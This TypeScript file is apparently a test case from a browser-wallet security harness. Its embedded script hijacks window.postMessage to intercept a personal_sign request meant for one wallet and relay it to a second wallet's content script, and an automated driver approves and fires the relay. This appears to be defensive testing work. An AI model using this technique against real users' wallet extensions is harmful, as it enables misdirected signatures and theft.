import type { Attack } from '../Attack.ts';

/** The same bytes, and behind the channel another wallet with another key. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet, older names',
  mechanism: 'approved for the first wallet, which the page keeps it from, then posted to the second',
  discovers: false,
  path: '/?other-wallet=0',
  script: `
await kit.ready();
const wallets = {};
addEventListener('eip6963:announceProvider', ({ detail }) => { wallets[detail.info.rdns] = detail.provider; });
dispatchEvent(new Event('eip6963:requestProvider'));
while (Object.keys(wallets).length < 2) await kit.sleep(10);
for (const one of Object.values(wallets)) await one.request({ method: 'eth_requestAccounts' });
const { postMessage } = window;
window.postMessage = function (data, ...rest) { if (data?.data?.data?.method !== 'personal_sign') return postMessage.call(this, data, ...rest); };
wallets['io.metamask'].request(kit.sign()).catch(() => undefined);
window.go = () => { postMessage.call(window, { target: 'contentscript', data: { name: 'provider', data: kit.rpc(kit.sign()) } }, location.origin); };
`,
  drive: async ({ page, approve, marker }) => {
    await page.waitForFunction('window.go !== undefined');
    await approve(marker);
    await new Promise((resolve) => setTimeout(resolve, 300));
    await page.evaluate('go()');
  },
};
